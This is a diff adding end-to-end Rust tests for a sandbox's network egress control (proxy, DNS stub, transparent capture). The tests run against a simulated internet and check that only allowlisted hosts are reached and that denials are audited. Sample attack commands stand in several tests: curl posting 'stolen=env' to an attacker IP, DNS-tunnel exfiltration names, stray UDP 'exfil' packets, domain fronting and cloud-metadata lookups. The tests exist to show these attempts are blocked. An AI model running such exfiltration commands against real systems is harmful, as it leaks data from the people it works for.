@@ -1,0 +1,625 @@
+//! Egress control end to end: the real binary, its proxy, DNS stub and transparent capture,
+//! against a fake internet in a network namespace of the test's own (see common/inet.rs).
+//! Every case asserts what arrived (or did not) at the servers, and the audit events.
+
+mod common;
+
+use common::inet::{Internet, audit_events, egress_users, find, needs_root};
+use common::*;
+
+const PROFILE: &str = "\
+name: egress-test
+description: the allowlist the egress tests run under
+extends: default
+network:
+  allow:
+    - { host: allowed.test, ports: [80, 443] }
+    - \"*.wild.test:443\"
+    - meta.test:443
+    - loop.test:443
+";
+
+#[test]
+fn allowed_host_through_connect_and_transparent_capture() {
+    if !needs_root() {
+        return;
+    }
+    for uid in egress_users() {
+        let net = Internet::new();
+        let dir = Dir::new(uid);
+        let out = net.run(
+            &dir,
+            PROFILE,
+            &[],
+            "curl -sSk https://allowed.test/ && curl -sSk --noproxy '*' https://allowed.test/t && \
+             curl -sS http://allowed.test/p && curl -sS --noproxy '*' http://allowed.test/q",
+        );
+        assert_eq!(
+            out.ok(),
+            "hello from allowed.test over https\nhello from allowed.test over https\n\
+             hello from allowed.test over http\nhello from allowed.test over http\n",
+            "as uid {uid}: {}",
+            out.stderr()
+        );
+        assert_eq!(
+            net.log("web.log"),
+            "https allowed.test /\nhttps allowed.test /t\nhttp allowed.test /p\nhttp allowed.test /q\n"
+        );
+        let ev = audit_events(&dir);
+        let allow = [("decision", "allow"), ("dest_name", "allowed.test")];
+        let connect = [
+            allow.as_slice(),
+            &[
+                ("via", "proxy"),
+                ("name_source", "connect"),
+                ("dest_port", "443"),
+            ],
+        ]
+        .concat();
+        assert_eq!(find(&ev, "connect", &connect).len(), 1, "{ev:#?}");
+        assert_eq!(
+            find(&ev, "connect", &connect)[0]["rule"],
+            "allowed.test:80,443"
+        );
+        assert_eq!(find(&ev, "connect", &connect)[0]["dest_ip"], "192.0.2.10");
+        let sni = [
+            allow.as_slice(),
+            &[("via", "transparent"), ("name_source", "sni")],
+        ]
+        .concat();
+        assert_eq!(find(&ev, "connect", &sni).len(), 1, "{ev:#?}");
+        let host = [
+            allow.as_slice(),
+            &[
+                ("via", "transparent"),
+                ("name_source", "host"),
+                ("dest_port", "80"),
+            ],
+        ]
+        .concat();
+        assert_eq!(find(&ev, "connect", &host).len(), 1, "{ev:#?}");
+        let http = find(
+            &ev,
+            "http",
+            &[
+                ("method", "GET"),
+                ("url", "http://allowed.test/p"),
+                ("status", "200"),
+            ],
+        );
+        assert_eq!(http.len(), 1, "{ev:#?}");
+        // The transparent connection was preceded by the stub answering the name.
+        let dns = find(
+            &ev,
+            "dns",
+            &[
+                ("name", "allowed.test"),
+                ("qtype", "A"),
+                ("decision", "allow"),
+            ],
+        );
+        assert!(
+            !dns.is_empty() && dns[0]["answers"][0] == "192.0.2.10",
+            "{ev:#?}"
+        );
+        // Bytes are counted on close.
+        assert!(
+            find(&ev, "close", &[])
+                .iter()
+                .any(|c| c["bytes_down"].as_u64().unwrap() > 0)
+        );
+        assert_eq!(find(&ev, "step_end", &[("exit_code", "0")]).len(), 1);
+    }
+}
+
+#[test]
+fn denied_host_bare_ip_and_port_reach_nothing() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let out = net.run(
+        &dir,
+        PROFILE,
+        &[],
+        "curl -sk -o /dev/null -w '%{http_connect}\\n' https://other.test/; \
+         curl -s --noproxy '*' -d stolen=env http://198.51.100.7/upload -o /dev/null -w '%{http_code}\\n'; \
+         curl -s -d stolen=env http://198.51.100.7/upload -o /dev/null -w '%{http_code}\\n'; \
+         curl -sk -o /dev/null -w '%{http_connect}\\n' https://allowed.test:8443/; \
+         curl -sk --noproxy '*' https://198.51.100.7/dns-query -o /dev/null; echo doh=$?",
+    );
+    assert_eq!(
+        out.stdout(),
+        "403\n403\n403\n403\ndoh=35\n",
+        "{}",
+        out.stderr()
+    );
+    assert_eq!(
+        net.log("attacker.log"),
+        "",
+        "the attacker received something"
+    );
+    assert_eq!(net.log("web.log"), "");
+    let err = out.stderr();
+    assert!(
+        err.contains(
+            "stepjail: denied other.test:443 (not allowed by profile; profile 'egress-test')"
+        ),
+        "{err}"
+    );
+    assert!(
+        err.contains("stepjail: denied 198.51.100.7:80 (not allowed by profile"),
+        "{err}"
+    );
+    assert!(err.contains("stepjail: denied allowed.test:8443 (port 8443 not allowed for allowed.test (allowed: 80, 443)"), "{err}");
+    let ev = audit_events(&dir);
+    assert_eq!(
+        find(
+            &ev,
+            "connect",
+            &[
+                ("dest_name", "other.test"),
+                ("decision", "deny"),
+                ("name_source", "connect")
+            ]
+        )
+        .len(),
+        1
+    );
+    let ip = find(
+        &ev,
+        "connect",
+        &[
+            ("dest_ip", "198.51.100.7"),
+            ("dest_port", "80"),
+            ("decision", "deny"),
+        ],
+    );
+    assert_eq!(ip.len(), 2, "{ev:#?}");
+    assert_eq!(
+        find(
+            &ev,
+            "http",
+            &[
+                ("method", "POST"),
+                ("url", "http://198.51.100.7/upload"),
+                ("status", "403")
+            ]
+        )
+        .len(),
+        1
+    );
+    let doh = find(
+        &ev,
+        "connect",
+        &[
+            ("dest_ip", "198.51.100.7"),
+            ("dest_port", "443"),
+            ("decision", "deny"),
+        ],
+    );
+    assert!(
+        doh[0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("without a server name"),
+        "{doh:?}"
+    );
+}
+
+#[test]
+fn dns_answers_only_allowed_names_and_never_asks_upstream_for_others() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let code = r#"
+import socket
+for name in ('allowed.test', 'c2VjcmV0.exfil.denied.test', 'meta.test', 'alias.test'):
+    try:
+        print(name, sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)}))
+    except socket.gaierror as e:
+        print(name, 'gaierror', e.errno)
+"#;
+    std::fs::write(dir.ws.join("q.py"), code).unwrap();
+    let out = net.run(&dir, PROFILE, &[], &format!("{PYTHON} q.py"));
+    assert_eq!(
+        out.ok(),
+        "allowed.test ['192.0.2.10']\nc2VjcmV0.exfil.denied.test gaierror -2\nmeta.test gaierror -5\nalias.test gaierror -2\n",
+        "{}",
+        out.stderr()
+    );
+    let upstream = net.log("dns.log");
+    assert!(upstream.contains("allowed.test 1"), "{upstream}");
+    assert!(
+        !upstream.contains("denied.test") && !upstream.contains("alias.test"),
+        "the upstream saw: {upstream}"
+    );
+    let ev = audit_events(&dir);
+    let denied = find(
+        &ev,
+        "dns",
+        &[
+            ("name", "c2vjcmv0.exfil.denied.test"),
+            ("decision", "deny"),
+            ("rcode", "NXDOMAIN"),
+        ],
+    );
+    assert!(!denied.is_empty(), "{ev:#?}");
+    let meta = find(
+        &ev,
+        "dns",
+        &[("name", "meta.test"), ("qtype", "A"), ("decision", "allow")],
+    );
+    assert_eq!(
+        meta[0]["answers"],
+        serde_json::json!([]),
+        "169.254.169.254 must not be handed out"
+    );
+}
+
+#[test]
+fn dns_over_tcp_and_udp_to_outside_resolvers() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let code = r#"
+import socket, struct
+q = struct.pack('!HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b'\x07allowed\x04test\x00' + struct.pack('!HH', 1, 1)
+# DNS over TCP straight to an outside resolver address: captured and refused.
+s = socket.create_connection(('198.51.100.7', 53), timeout=5)
+s.sendall(struct.pack('!H', len(q)) + q)
+try:
+    print('tcp', len(s.recv(512)))
+except OSError as e:
+    print('tcp error', e.errno)
+# DNS over UDP to any address: answered by the stub, never forwarded there.
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
+u.sendto(q, ('198.51.100.7', 53))
+r = u.recv(512)
+print('udp', r[3] & 0x0f, socket.inet_ntoa(r[-4:]))
+# Other UDP never leaves.
+u.sendto(b'exfil', ('198.51.100.7', 9999))
+print('sent')
+"#;
+    std::fs::write(dir.ws.join("d.py"), code).unwrap();
+    let out = net.run(&dir, PROFILE, &[], &format!("{PYTHON} d.py; sleep 0.3"));
+    assert_eq!(
+        out.ok(),
+        "tcp 0\nudp 0 192.0.2.10\nsent\n",
+        "{}",
+        out.stderr()
+    );
+    assert_eq!(net.log("attacker.log"), "");
+    let ev = audit_events(&dir);
+    assert_eq!(
+        find(
+            &ev,
+            "connect",
+            &[
+                ("dest_ip", "198.51.100.7"),
+                ("dest_port", "53"),
+                ("protocol", "tcp"),
+                ("decision", "deny")
+            ]
+        )
+        .len(),
+        1
+    );
+    assert_eq!(
+        find(
+            &ev,
+            "connect",
+            &[
+                ("dest_ip", "198.51.100.7"),
+                ("dest_port", "9999"),
+                ("protocol", "udp"),
+                ("decision", "deny")
+            ]
+        )
+        .len(),
+        1
+    );
+    assert!(
+        !find(
+            &ev,
+            "dns",
+            &[
+                ("name", "allowed.test"),
+                ("transport", "udp"),
+                ("decision", "allow")
+            ]
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn domain_fronting_and_host_mismatch_are_refused() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let out = net.run(
+        &dir,
+        PROFILE,
+        &[],
+        // CONNECT allowed.test:443, then a ClientHello for other.test inside the tunnel.
+        "curl -sk --connect-to other.test:443:allowed.test:443 https://other.test/ -o /dev/null; echo sni=$?; \
+         curl -s -H 'Host: other.test' http://allowed.test/ -o /dev/null -w '%{http_code}\\n'",
+    );
+    assert_eq!(out.stdout(), "sni=35\n403\n", "{}", out.stderr());
+    assert_eq!(net.log("web.log"), "", "a fronted request reached a server");
+    let ev = audit_events(&dir);
+    let sni = find(
+        &ev,
+        "connect",
+        &[("name_source", "sni"), ("decision", "deny")],
+    );
+    assert!(
+        sni[0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("does not match the CONNECT host allowed.test"),
+        "{ev:#?}"
+    );
+    let host = find(
+        &ev,
+        "connect",
+        &[
+            ("dest_name", "allowed.test"),
+            ("name_source", "host"),
+            ("decision", "deny"),
+        ],
+    );
+    assert!(
+        host[0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("Host header does not match"),
+        "{ev:#?}"
+    );
+}
+
+#[test]
+fn allowed_names_resolving_to_special_addresses_are_refused() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let out = net.run(
+        &dir,
+        PROFILE,
+        &[],
+        "curl -sk -o /dev/null -w '%{http_connect}\\n' https://meta.test/; \
+         curl -sk -o /dev/null -w '%{http_connect}\\n' https://loop.test/",
+    );
+    assert_eq!(out.stdout(), "502\n502\n", "{}", out.stderr());
+    let ev = audit_events(&dir);
+    let meta = find(
+        &ev,
+        "connect",
+        &[("dest_name", "meta.test"), ("decision", "deny")],
+    );
+    assert!(
+        meta[0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("169.254.169.254 (link-local)"),
+        "{ev:#?}"
+    );
+    let lo = find(
+        &ev,
+        "connect",
+        &[("dest_name", "loop.test"), ("decision", "deny")],
+    );
+    assert!(
+        lo[0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("127.0.0.1 (loopback)"),
+        "{ev:#?}"
+    );
+}
+
+#[test]
+fn ipv6_is_handled_like_ipv4() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let out = net.run(
+        &dir,
+        PROFILE,
+        &[],
+        "curl -sSk -6 --noproxy '*' https://allowed.test/six; \
+         curl -s -g --noproxy '*' 'http://[2001:db8::10]/bare' -o /dev/null -w '%{http_code}\\n'",
+    );
+    assert_eq!(
+        out.stdout(),
+        "hello from allowed.test over https\n403\n",
+        "{}",
+        out.stderr()
+    );
+    assert_eq!(net.log("web.log"), "https allowed.test /six\n");
+    let ev = audit_events(&dir);
+    assert!(
+        !find(
+            &ev,
+            "dns",
+            &[
+                ("name", "allowed.test"),
+                ("qtype", "AAAA"),
+                ("decision", "allow")
+            ]
+        )
+        .is_empty()
+    );
+    assert_eq!(
+        find(
+            &ev,
+            "connect",
+            &[
+                ("dest_ip", "2001:db8::10"),
+                ("dest_port", "80"),
+                ("decision", "deny")
+            ]
+        )
+        .len(),
+        1
+    );
+}
+
+#[test]
+fn wildcards_match_subdomains_at_any_depth_but_not_the_apex() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let out = net.run(
+        &dir,
+        PROFILE,
+        &[],
+        "for h in a.wild.test b.a.wild.test wild.test; do \
+         curl -sk -o /dev/null -w \"$h %{http_connect}\\n\" https://$h/; done",
+    );
+    assert_eq!(
+        out.stdout(),
+        "a.wild.test 200\nb.a.wild.test 200\nwild.test 403\n",
+        "{}",
+        out.stderr()
+    );
+    let ev = audit_events(&dir);
+    assert_eq!(
+        find(
+            &ev,
+            "connect",
+            &[("dest_name", "b.a.wild.test"), ("rule", "*.wild.test:443")]
+        )
+        .len(),
+        1
+    );
+}
+
+#[test]
+fn audit_mode_allows_and_logs_would_deny() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let profile =
+        "name: aud\ndescription: empty allowlist\nextends: default\nnetwork:\n  allow: []\n";
+    let out = net.run(
+        &dir,
+        profile,
+        &["--mode", "audit"],
+        "curl -sSk https://other.test/ && curl -sSk --noproxy '*' https://other.test/x",
+    );
+    assert_eq!(
+        out.ok(),
+        "hello from other.test over https\nhello from other.test over https\n",
+        "{}",
+        out.stderr()
+    );
+    assert!(
+        out.stderr()
+            .contains("stepjail: would deny other.test:443 (not allowed by profile"),
+        "{}",
+        out.stderr()
+    );
+    let ev = audit_events(&dir);
+    assert_eq!(
+        find(
+            &ev,
+            "connect",
+            &[("dest_name", "other.test"), ("decision", "would_deny")]
+        )
+        .len(),
+        2,
+        "{ev:#?}"
+    );
+    assert!(
+        !find(
+            &ev,
+            "dns",
+            &[("name", "other.test"), ("decision", "would_deny")]
+        )
+        .is_empty()
+    );
+    assert_eq!(find(&ev, "step_start", &[("mode", "audit")]).len(), 1);
+}
+
+#[test]
+fn a_stopped_proxy_leaves_the_step_without_network() {
+    if !needs_root() {
+        return;
+    }
+    use std::io::{BufRead, BufReader};
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let p = dir.write("ws/profile.yml", PROFILE);
+    let mut child = std::process::Command::new("ip")
+        .args([
+            "netns",
+            "exec",
+            &net.ns,
+            "setpriv",
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+            bin(),
+        ])
+        .args([
+            "run",
+            "--profile",
+            p.to_str().unwrap(),
+            "--resolver",
+            "192.0.2.53:53",
+            "--",
+        ])
+        .args([
+            "sh",
+            "-c",
+            "echo ready; read x; curl -sk -m 2 https://allowed.test/ ; echo rc=$?",
+        ])
+        .env("HOME", &dir.home)
+        .current_dir(&dir.ws)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
+    assert_eq!(lines.next().unwrap().unwrap(), "ready");
+    // Freeze stepjail (supervisor and proxy); the step keeps running on its own.
+    let pid = nix::unistd::Pid::from_raw(child.id() as i32);
+    let sj = find_stepjail_child(pid);
+    nix::sys::signal::kill(sj, nix::sys::signal::SIGSTOP).unwrap();
+    use std::io::Write;
+    child.stdin.take().unwrap().write_all(b"go\n").unwrap();
+    std::thread::sleep(std::time::Duration::from_secs(3));
+    assert_eq!(
+        net.log("web.log"),
+        "",
+        "traffic left while the proxy was stopped"
+    );
+    nix::sys::signal::kill(sj, nix::sys::signal::SIGCONT).unwrap();
+    assert_eq!(lines.next().unwrap().unwrap(), "rc=28");
+    child.wait().unwrap();
+}
+
+/// `ip netns exec` → setpriv (exec) → stepjail: the stepjail process is the child's own pid
+/// after the execs, or its first child.
+fn find_stepjail_child(pid: nix::unistd::Pid) -> nix::unistd::Pid {
+    let exe = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap();
+    assert!(exe.ends_with("stepjail"), "{exe:?}");
+    pid
+}
